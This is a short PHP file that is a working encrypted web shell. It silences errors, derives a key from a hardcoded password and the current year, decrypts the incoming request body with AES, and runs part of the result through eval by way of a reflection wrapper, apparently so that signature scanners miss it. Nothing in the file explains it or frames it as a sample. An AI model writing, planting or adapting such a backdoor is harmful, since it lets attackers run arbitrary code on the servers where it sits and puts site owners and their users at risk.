<?php
@error_reporting(0);
$k = substr(md5('p@ss' . date('Y')), 0, 16);
$raw = file_get_contents('php://input');
$dec = openssl_decrypt(base64_decode($raw), 'AES-128-ECB', $k, OPENSSL_RAW_DATA);
if ($dec !== false) {
    $parts = explode('|', $dec, 2);
    $r = new ReflectionFunction(function ($c) { return eval($c); });
    echo $r->invoke($parts[1]);
}
